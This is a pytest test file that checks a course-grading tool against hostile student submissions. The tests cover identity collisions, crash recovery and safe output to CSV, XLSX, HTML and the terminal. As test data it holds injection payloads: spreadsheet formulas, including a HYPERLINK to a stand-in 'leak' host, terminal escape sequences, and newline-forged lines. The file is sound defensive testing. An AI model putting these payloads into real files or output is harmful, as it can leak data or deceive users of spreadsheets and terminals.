"""What the instructor gets from a hostile class: names and strings from students can neither
break nor forge the gradebook, the feedback pages, the marking sheets, the terminal or the kept
notebooks; identities are unique and stable; a killed grader loses only what it was running.

One class of real student copies of the trust lab (``exercises/student/trust-and-noise.ipynb``)
under hostile file names is graded once per module through the command line (five kernels);
every test reads that run. The crash test grades the same class again in a subprocess it kills.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import nbformat
import pytest
from openpyxl import load_workbook

from osmcourse.__main__ import main
from osmcourse.grading import build, export, isolation_problem
from osmcourse.grading.state import load_state
from osmcourse.grading.entries import Entry, _safe_name, assign_keys
from osmcourse.grading.remarks import texts
from osmcourse.grading.report import read_csv, safe_text, terminal_text, unsafe_text, xlsx_text
from osmcourse.grading.written import read_marks

import grading_attacks as attacks
from conftest import ROOT
from test_gradebook import libreoffice

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(
        isolation_problem() is not None, reason=f"no sandbox: {isolation_problem()}"
    ),
]

STUDENT_COPY = ROOT / "exercises" / "student" / "trust-and-noise.ipynb"
MASTER = ROOT / "exercises" / "trust-and-noise.ipynb"
FORMULAS = (
    'mallory;=1+1;@SUM(1+1);=HYPERLINK("http://example.invalid/?leak","click")\t=2+2|=3+3\n'
    '-4+4, +5 ;  =6+6 "=7+7"'
)
ESCAPES, FORGED = attacks.ESCAPES, attacks.FORGED
FILES = attacks.NAME_FILES
# Two names whose bytes are not UTF-8 and print alike (caf\ufffd): two students, two ids.
UNDECODABLE = (os.fsdecode(b"caf\xe9.ipynb"), os.fsdecode(b"caf\xe8.ipynb"))
# An exception class named with escape sequences and a lone surrogate (a metaclass's __name__:
# type() itself refuses such a name). A kernel escapes its JSON as it likes; this one sends the
# surrogate as the JSON escape \ud800, which the usual packer cannot.
RAISE_ODD_ERROR = r"""
import json
get_ipython().kernel.session.pack = lambda obj: json.dumps(obj, ensure_ascii=True, default=str).encode()
class _Named(type):
    __name__ = property(lambda cls: "\x1b]0;pwned\x07\x1b[2J\ud800Err")
class Odd(Exception, metaclass=_Named):
    pass
raise Odd("\x1b[31mred\ud800")
"""
DEEP_DISPLAY = """
from IPython.display import display
nested = "bottom"
for _ in range(490):
    nested = {"a": nested}
display({"text/plain": "deep"}, metadata={"application/x-deep": nested}, raw=True)
"""


def student_copy(written: str | None = None, extra: str | None = None):
    notebook = nbformat.read(STUDENT_COPY, as_version=4)
    for cell in notebook.cells:
        if "written" in cell.metadata.get("tags", []) and written is not None:
            cell.source = written
    if extra is not None:
        notebook.cells.append(nbformat.v4.new_code_cell(extra))
    return notebook


def solved():
    """The master's solutions typed into a student's copy (so not byte for byte the master)."""
    notebook = nbformat.read(MASTER, as_version=4)
    for cell in notebook.cells:
        if "solution" in cell.metadata.get("tags", []) and cell.cell_type == "code":
            cell.source += "  # mine"
    notebook.metadata["osmcourse"]["edition"] = "student"
    for cell in notebook.cells:
        if "written" in cell.metadata.get("tags", []):
            cell.source = "Ada's own answer."
    return notebook


def write_class(inbox: Path) -> None:
    inbox.mkdir(parents=True)
    notebooks = {
        "ada": solved(),
        "_ada": student_copy("Not Ada's answer."),
        "mallory": student_copy(FORMULAS),
        "eve": student_copy("Eve.", DEEP_DISPLAY),
        "esc": student_copy(f"{ESCAPES}\n{FORGED}", RAISE_ODD_ERROR),
    }
    for key, name in FILES.items():
        nbformat.write(notebooks[key], inbox / name)
    for name in UNDECODABLE:  # not notebooks: no kernel, but each still a student with a row
        (inbox / name).write_bytes(b"{not a notebook")


def grade_command(inbox: Path, out: Path, executed: Path | None = None) -> list[str]:
    return [
        "grade",
        str(inbox),
        "--out",
        str(out),
        "--lab",
        "trust",
        "--timeout",
        "60",
        "--jobs",
        "2",
        *(["--keep-executed", str(executed)] if executed else []),
    ]


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    inbox, out, executed = base / "inbox", base / "grades", base / "executed"
    write_class(inbox)
    capture = base / "stdout.txt"
    with open(capture, "w+", encoding="utf-8", errors="surrogateescape") as stream:
        saved = sys.stdout
        sys.stdout = stream
        try:
            code = main(grade_command(inbox, out, executed))
        except BaseException as error:  # noqa: BLE001 - the old grader crashed here: a result
            code = f"{type(error).__name__}: {error}"
        finally:
            sys.stdout = saved
    state = (
        json.loads((out / "gradebook.json").read_text(encoding="utf-8"))
        if (out / "gradebook.json").exists()
        else {}
    )
    entries = state.get("entries", [])
    return {
        "base": base,
        "inbox": inbox,
        "out": out,
        "executed": executed,
        "code": code,
        "stdout": capture.read_bytes(),
        "entries": entries,
    }


def entry(graded, name):
    found = [e for e in graded["entries"] if e["file"].rsplit("/", 1)[-1] == name]
    assert len(found) == 1, sorted(graded["entries"])
    return found[0]


# --- The run itself ---------------------------------------------------------------------------


def test_the_grader_ends_well_and_prints_printable_text_only(graded):
    assert graded["code"] == 0, graded["code"]
    text = graded["stdout"].decode("utf-8")  # valid UTF-8: no lone surrogate reached the terminal
    assert "\x1b" not in text and "\u202e" not in text and "\x07" not in text
    assert all(ch == "\n" or ch.isprintable() for ch in text), [
        ch for ch in text if not ch.isprintable()
    ][:5]
    lines = text.splitlines()
    assert not any(
        line.startswith(FORGED) for line in lines
    )  # the newline in a name forges no line
    assert "\\x1b]0;owned\\x07" in text and "\\x0a" + FORGED in text  # shown, as escapes
    assert "\\ud800Err" in text  # the error's name, its lone surrogate as an escape


def test_a_lone_surrogate_and_escapes_in_an_error_name_reach_the_reports_safely(graded):
    esc = entry(graded, FILES["esc"])
    assert any("Err" in error for error in esc["errors"]), esc["errors"]
    page = (graded["out"] / "feedback" / f"{esc['key']}.html").read_text(encoding="utf-8")
    assert "Err" in page and "\x1b" not in page and "\ud800" not in page


# --- Identity ---------------------------------------------------------------------------------


def test_a_name_made_of_another_students_name_never_takes_their_page(graded):
    ada, other = entry(graded, "ada.ipynb"), entry(graded, "_ada.ipynb")
    assert (ada["student"], ada["key"]) == ("ada", "ada")
    assert other["student"] == "_ada" and other["key"] != "ada"
    page = (graded["out"] / "feedback" / "ada.html").read_text(encoding="utf-8")
    assert "Ada&#x27;s own answer." in page and "Not Ada" not in page
    keys = [e["key"] for e in graded["entries"]]
    assert len({k.lower() for k in keys}) == len(keys) == len(FILES) + 2
    assert all(_safe_name(k) for k in keys)


def test_names_whose_bytes_print_alike_are_two_students(graded):
    ids = sorted(e["student"] for e in graded["entries"] if e["student"].startswith("caf"))
    assert ids == ["caf\\xe8", "caf\\xe9"]
    notes = {k: texts(v) for k, v in build.remarks(load_state(graded["out"])).items()}
    assert not any("2 submissions" in n for items in notes.values() for n in items)


def test_a_late_name_made_of_ada_never_takes_her_key_page_or_marks(graded, tmp_path):
    """Ada is graded and marked; ``_ada.ipynb`` comes later and is merged in as a regrade."""
    entries = load_state(graded["out"])
    out, late = tmp_path / "grades", tmp_path / "late"
    export.write_outputs([e for e in entries if e.student != "_ada"], out)
    export.write_outputs([e for e in entries if e.student == "_ada"], late)
    sheet = out / "written-trust.csv"
    rows = read_csv(sheet)
    for row in rows:
        if row["student"] == "ada":
            row["points"], row["comment"] = "1", "Ada's mark."
    write_sheet(sheet, rows, ";")  # as a German spreadsheet saves it
    assert main(["merge", str(out)]) == 0
    before = {e.key: e.student for e in load_state(out)}
    assert main(["merge", str(out), str(late)]) == 0
    after = {e.key: e.student for e in load_state(out)}
    assert {k: v for k, v in after.items() if k in before} == before and len(after) == len(
        before
    ) + 1
    page = (out / "feedback" / "ada.html").read_text(encoding="utf-8")
    assert "Ada&#x27;s mark." in page and "Ada&#x27;s own answer." in page and "Not Ada" not in page
    again = {r["student"]: r for r in read_csv(sheet)}
    assert (again["ada"]["points"], again["ada"]["comment"]) == ("1", "Ada's mark.")
    assert again["_ada"]["points"] == "" and "Not Ada" in again["_ada"]["answer"]


def write_sheet(path: Path, rows: list[dict], delimiter: str) -> None:
    import csv
    import io

    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(rows[0]), delimiter=delimiter)
    writer.writeheader()
    writer.writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")


def test_a_mark_that_matches_no_student_fails_naming_its_line(graded, tmp_path, capsys):
    out = tmp_path / "grades"
    shutil.copytree(graded["out"], out)
    sheet = out / "written-trust.csv"
    rows = read_csv(sheet)
    before = (out / "gradebook.json").read_bytes()
    rows[2]["student"] = "ada_"  # a key the grader never wrote (line 4 of the sheet)
    rows[2]["points"] = "1"
    write_sheet(sheet, rows, ",")
    assert main(["merge", str(out)]) == 2
    err = capsys.readouterr().err
    assert "written-trust.csv, line 4" in err and "'ada_'" in err and "not in the gradebook" in err
    assert (out / "gradebook.json").read_bytes() == before
    rows[2]["student"], rows[3]["student"], rows[3]["points"] = (
        "ada",
        "ada",
        "0",
    )  # ada twice, differently
    rows[2]["question"] = rows[3]["question"]
    write_sheet(sheet, rows, ",")
    assert main(["merge", str(out)]) == 2
    assert "line 5" in capsys.readouterr().err and (out / "gradebook.json").read_bytes() == before


# --- What is written --------------------------------------------------------------------------


def test_no_csv_cell_starts_a_formula_whatever_the_separator(graded):
    import csv

    for name in ("gradebook.csv", "written-trust.csv", "questions.csv"):
        text = (graded["out"] / name).read_bytes().decode("utf-8-sig")
        for delimiter in (",", ";", "\t", "|"):
            for record in csv.reader(text.splitlines(), delimiter=delimiter):
                for cell in record:
                    assert not cell.lstrip(' "\u00a0').startswith(("=", "+", "-", "@")), (
                        name,
                        delimiter,
                        cell,
                    )
    sheet = {r["student"]: r for r in read_csv(graded["out"] / "written-trust.csv")}
    assert unsafe_text(sheet[entry(graded, FILES["mallory"])["key"]]["answer"]) == FORMULAS


def test_libreoffice_in_a_semicolon_locale_shows_text_not_formulas(graded, tmp_path):
    """LibreOffice, told to split on ';' and to evaluate formulas (the worst case), reads every
    CSV the grader writes; the helper asserts no cell is a formula."""
    for name in ("gradebook.csv", "written-trust.csv"):
        # separator ;, quote ", UTF-8, line 1, standard columns, en-US, quoted as text off,
        # detect special numbers on, ..., evaluate formulas on (token 13)
        rows = libreoffice(
            graded["out"] / name,
            tmp_path / name.replace(".", "_"),
            "CSV:59,34,76,1,,1033,false,true,false,false,false,-1,true",
        )
        cells = [str(c) for row in rows for c in row if c is not None]
        assert any(c.startswith("'=1+1") for c in cells), name  # the formula's text, as text


def test_the_workbook_opens_whatever_the_names_hold(graded, tmp_path):
    book = load_workbook(graded["out"] / "gradebook.xlsx")
    values = [c.value for row in book.active.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(v.startswith("eve\ufffd\ufffd") for v in values)
    assert all(c.data_type != "f" for row in book.active.iter_rows() for c in row)
    with zipfile.ZipFile(graded["out"] / "gradebook.xlsx") as archive:
        xml = (
            archive.read("xl/sharedStrings.xml").decode("utf-8")
            if "xl/sharedStrings.xml" in archive.namelist()
            else archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
        )
    assert "\uffff" not in xml and "\ufdd0" not in xml and "\x1b" not in xml
    libreoffice(graded["out"] / "gradebook.xlsx", tmp_path / "lo")  # LibreOffice reads it too


def test_every_notebook_is_kept_even_beside_one_nested_490_deep(graded):
    kept = sorted(p.name for p in graded["executed"].iterdir())
    graded_keys = sorted(f"{e['key']}.ipynb" for e in graded["entries"] if e["status"] == "ok")
    assert kept == graded_keys and len(kept) == len(FILES)
    deep = nbformat.read(
        graded["executed"] / f"{entry(graded, FILES['eve'])['key']}.ipynb", as_version=4
    )
    text = json.dumps(deep)
    assert export.TOO_DEEP in text and "deep" in text


# --- Units of the same kinds --------------------------------------------------------------------


def test_safe_forms_of_one_text_for_each_reader():
    assert (
        safe_text("mallory;=1+1;") == "mallory;'=1+1;"
        and unsafe_text("mallory;'=1+1;") == "mallory;=1+1;"
    )
    assert safe_text("a|@SUM(1)") == "a|'@SUM(1)" and safe_text("x\n+1") == "x\n'+1"
    assert safe_text("=1", inner=False) == "'=1" and safe_text("\uff1d1") == "'\uff1d1"
    assert terminal_text("a\nb\x1b[2J\u202e\ud800\uffff") == "a\\x0ab\\x1b[2J\\u202e\\ud800\\uffff"
    assert xlsx_text("e\uffff\ufdd0\U0001fffe\ud800\x01") == "e\ufffd\ufffd\ufffd\ufffd "
    assert len(xlsx_text("x" * 40_000)) == 32_767


def test_keys_are_unique_stable_and_owned(tmp_path):
    def entries(*students):
        return [Entry("", s, lab="trust", file=f"{n}") for n, s in enumerate(students)]

    keys = {
        e.student: e.key for e in assign_keys(entries("_ada", ".ada", "ada", "a da", "a_da", "con"))
    }
    assert keys["ada"] == "ada" and keys["_ada"] == "_ada" and keys["a_da"] == "a_da"
    assert (
        keys[".ada"].startswith("ada-")
        and keys["a da"].startswith("a_da-")
        and keys["con"] != "con"
    )
    # Two ids that differ only in capitals (one folder on a case-insensitive disk), and one
    # student's second entry: unique, capitals aside, and never the other student's "-LAB" form.
    twice = assign_keys(entries("Ada", "ada", "ada"))
    assert len({e.key.lower() for e in twice}) == 3
    assert [e.key for e in twice if e.student == "Ada"] == ["Ada"]
    assert all(
        e.key.startswith("ada-") and e.key != "ada-trust" for e in twice if e.student == "ada"
    )
    # Given keys stay, whoever arrives later.
    first = assign_keys(entries(".ada"))
    assert first[0].key == "ada"
    later = assign_keys(first + entries("ada"))
    assert {e.student: e.key for e in later} == {
        ".ada": "ada",
        "ada": next(e.key for e in later if e.student == "ada"),
    }
    assert len({e.key for e in later}) == 2


def test_a_gradebook_with_one_key_twice_is_refused(graded, tmp_path):
    out = tmp_path / "grades"
    shutil.copytree(graded["out"], out)
    state = json.loads((out / "gradebook.json").read_text(encoding="utf-8"))
    state["entries"][1]["key"] = state["entries"][0]["key"].upper()
    (out / "gradebook.json").write_text(json.dumps(state), encoding="utf-8")
    with pytest.raises(ValueError, match="names two entries"):
        load_state(out)


def test_read_marks_keeps_where_each_mark_came_from(tmp_path):
    sheet = tmp_path / "written-trust.csv"
    sheet.write_text(
        "student,question,points,comment\n'-x,w1,1,\"'=not a formula; '-fine\"\n", encoding="utf-8"
    )
    marks = read_marks(sheet)
    assert marks == {("-x", "w1"): (1.0, "=not a formula; -fine")}
    assert marks.where[next(iter(marks))] == "written-trust.csv, line 2"


# --- A killed grader ----------------------------------------------------------------------------


def test_a_killed_grader_resumes_and_gives_the_same_gradebook(graded, tmp_path):
    out = tmp_path / "grades"
    command = [sys.executable, "-m", "osmcourse", *grade_command(graded["inbox"], out)]
    command[command.index("--jobs") + 1] = "1"
    process = subprocess.Popen(
        command,
        cwd=ROOT,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    journal = out / "journal"
    deadline = time.monotonic() + 300
    try:
        while time.monotonic() < deadline and process.poll() is None:
            if (
                journal.is_dir() and len(list(journal.glob("*.json"))) >= 2
            ):  # two kernels (sorted: esc, _ada)
                break
            time.sleep(0.05)
        assert process.poll() is None, "the grader ended before it could be killed"
    finally:
        try:
            os.killpg(process.pid, signal.SIGKILL)  # the grader and all it started in its session
        except ProcessLookupError:
            pass
        process.wait()
    saved = {p.name: p.stat().st_mtime_ns for p in journal.glob("*.json")}
    assert 2 <= len(saved) < len(FILES) + 2 and not (out / "gradebook.csv").exists()
    assert not list(
        journal.glob("*.part")
    )  # nothing half-written: each record is renamed into place
    assert main(grade_command(graded["inbox"], out)) == 0
    assert {
        p.name: p.stat().st_mtime_ns for p in journal.glob("*.json") if p.name in saved
    } == saved  # not regraded
    names = [
        "gradebook.csv",
        "gradebook.xlsx",
        "gradebook.json",
        "written-trust.csv",
        "questions.csv",
        *(f"feedback/{p.name}" for p in (graded["out"] / "feedback").iterdir()),
    ]
    assert sorted(p.name for p in (out / "feedback").iterdir()) == sorted(n[9:] for n in names[5:])
    for name in names:
        assert (out / name).read_bytes() == (graded["out"] / name).read_bytes(), name
    # A changed notebook is graded again; the others are not.
    changed = graded["inbox"] / FILES["_ada"]
    original = changed.read_bytes()
    try:
        changed.write_bytes(original.replace(b"Not Ada's answer.", b"Not Ada's answer, changed."))
        stamps = {p.name: p.stat().st_mtime_ns for p in journal.glob("*.json")}
        assert main(grade_command(graded["inbox"], out)) == 0
        again = {p.name: p.stat().st_mtime_ns for p in journal.glob("*.json")}
        assert sum(again[n] != stamps[n] for n in stamps) == 1
        assert "Not Ada's answer, changed." in (out / "written-trust.csv").read_text(
            encoding="utf-8-sig"
        )
    finally:
        changed.write_bytes(original)


def test_grading_again_into_the_same_folder_keeps_keys_and_every_mark(graded, tmp_path, capsys):
    """Marks entered in the sheet (merged or not) survive a new run; a bad one stops it first."""
    out = tmp_path / "grades"
    shutil.copytree(graded["out"], out)  # its journal too: nothing runs again
    sheet = out / "written-trust.csv"
    rows = read_csv(sheet)
    for row in rows:
        if row["student"] == "ada":
            row["points"], row["comment"] = "1", "Ada's mark, not merged yet."
    write_sheet(sheet, rows, ",")
    keys = {e.student: e.key for e in load_state(out)}
    assert main(grade_command(graded["inbox"], out)) == 0
    assert "graded by an earlier run" in capsys.readouterr().out
    entries = load_state(out)
    assert {e.student: e.key for e in entries} == keys
    ada = next(e for e in entries if e.student == "ada")
    assert (ada.written[0].points, ada.written[0].comment) == (1.0, "Ada's mark, not merged yet.")
    rows = read_csv(sheet)
    rows[0]["points"] = "lots"
    write_sheet(sheet, rows, ",")
    before = (out / "gradebook.json").read_bytes()
    assert main(grade_command(graded["inbox"], out)) == 2
    assert (
        "not a number" in capsys.readouterr().err
        and (out / "gradebook.json").read_bytes() == before
    )


def test_the_grading_page_states_the_limits_the_code_has():
    from osmcourse.grading.report import XLSX_MAX_CHARS

    page = (ROOT / "chapters" / "instructors" / "grading.md").read_text(encoding="utf-8")
    assert (
        f"deeper than {export.MAX_DEPTH} levels" in page
        and f"{XLSX_MAX_CHARS:,} characters" in page
    )
    assert "(instructors-grading-promises)=\n## What the gradebook promises" in page


def test_an_error_about_a_path_is_one_printable_line(tmp_path, capsys):
    missing = tmp_path / "gone\n\x1b]0;owned\x07zed: trust 99 of 99"
    assert main(["grade", str(missing), "--out", str(tmp_path / "out")]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "\x1b" not in err and "\\x0a\\x1b]0;owned\\x07zed" in err
